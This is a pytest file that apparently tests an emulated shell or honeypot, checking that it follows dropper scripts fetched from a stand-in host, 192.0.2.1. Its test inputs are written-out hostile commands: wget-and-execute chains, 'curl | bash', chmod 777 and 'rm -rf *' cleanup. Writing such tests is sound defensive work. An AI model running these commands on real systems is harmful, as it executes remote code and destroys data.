# SPDX-License-Identifier: Apache-2.0
"""What waited for a body runs among the files that it had."""

from __future__ import annotations

import pytest

from mead.shell import Executed, Offer, Shell

SCRIPT = b"wget http://192.0.2.1/arm7 -O a; chmod +x a; ./a; echo $0 $1 >/tmp/done\n"


@pytest.mark.parametrize(
    "line",
    [
        "cd /tmp; wget http://192.0.2.1/s; sh s 1; rm -f s",
        "cd /tmp; wget http://192.0.2.1/s -O s; chmod 777 s; ./s 1; rm -rf *",
        "mkdir -p /tmp/a/b; cd /tmp/a/b; wget http://192.0.2.1/s; sh ./s 1; cd /; rm -rf /tmp/a",
        "cd /tmp; wget http://192.0.2.1/s -O x; cp x s; rm x; sh s 1; rm s",
        "cd /tmp; wget http://192.0.2.1/s -O x; mv x s; sh s 1; rm s",
    ],
)
def test_a_script_that_was_removed_after_it_ran_is_followed(shell: Shell, line: str) -> None:
    shell.run(line.encode())
    reply = shell.deliver("http://192.0.2.1/s", SCRIPT)
    assert [effect.url for effect in reply.effects if isinstance(effect, Offer)] == ["http://192.0.2.1/arm7"]
    assert shell.run(b"cat /tmp/done").output.endswith(b"s 1\n")
    assert shell.run(b"ls -d /tmp/s /tmp/x /tmp/a/b 2>/dev/null").output == b""
    run = [effect.url for effect in reply.effects if isinstance(effect, Executed)]
    assert run == ["http://192.0.2.1/arm7"]


def test_what_the_script_leaves_stays(shell: Shell) -> None:
    shell.run(b"cd /tmp; wget http://192.0.2.1/s; sh s; rm s")
    shell.deliver("http://192.0.2.1/s", b"echo left > left; mkdir d\n")
    assert shell.run(b"ls /tmp").output == b"d     left\n"


def test_what_is_done_unseen_is_so_again(shell: Shell) -> None:
    shell.run(b"cd /tmp; curl -s http://192.0.2.1/s | bash")
    reply = shell.deliver("http://192.0.2.1/s", b"wget http://192.0.2.1/t; echo x > /tmp/x\n")
    assert [effect.url for effect in reply.effects if isinstance(effect, Offer)] == ["http://192.0.2.1/t"]
    assert shell.run(b"ls /tmp").output == b""
